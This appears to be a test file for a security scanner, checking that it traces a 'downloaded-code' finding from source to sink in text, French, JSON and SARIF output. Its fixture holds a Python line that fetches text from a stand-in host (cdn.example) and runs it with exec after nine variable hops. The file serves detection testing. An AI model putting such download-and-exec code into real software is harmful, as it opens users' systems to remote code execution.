import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { folderWith, packOf, Terminal } from '../run.test-support.ts'

const terminal = new Terminal()
const hops = Array.from({ length: 9 }, (_, i) => `v${i + 1} = v${i}`).join('\n')
const files = {
  ...packOf('soft-glow', 'acme'),
  'fetch.py': `import requests\nv0 = requests.get("https://cdn.example/c").text\n${hops}\nexec(v9)\n`,
}
const run = async (...options: string[]) =>
  (await terminal.run('check', await folderWith(files), ...options)).stdout

describe('a check of a pack with a path', () => {
  it('shows its steps, those that are left out, and the fix', async () => {
    const shown = await run()
    assert.match(
      shown,
      / {2}How the value gets here\n {4}Source: fetch\.py:2 data from the network \(cdn\.example\)\n {4}Step: fetch\.py:3 a variable \(v1\)\n/,
    )
    assert.match(shown, / {4}… 3 steps left out\n/)
    assert.match(shown, / {4}Destination: fetch\.py:12 code that runs \(exec\)\n {2}Fix: /)
    const french = await run('--lang', 'fr')
    assert.match(french, / {4}Source: fetch\.py:2 des données du réseau \(cdn\.example\)\n/)
  })

  it('has the steps in JSON and in SARIF', async () => {
    const { inspection } = JSON.parse(await run('--json'))
    const { path } = inspection.findings.find(({ rule }: { rule: string }) => rule === 'downloaded-code')
    assert.equal(path.length, 8)
    const { runs } = JSON.parse(await run('--format', 'sarif'))
    const { codeFlows } = runs[0].results.find(
      ({ ruleId }: { ruleId: string }) => ruleId === 'downloaded-code',
    )
    const { locations } = codeFlows[0].threadFlows[0]
    assert.deepEqual(
      [locations[0], locations.at(-1)].map(({ location }) => [
        location.physicalLocation.region.startLine,
        location.message.text,
      ]),
      [
        [2, 'data from the network (cdn.example)'],
        [12, 'code that runs (exec)'],
      ],
    )
  })
})
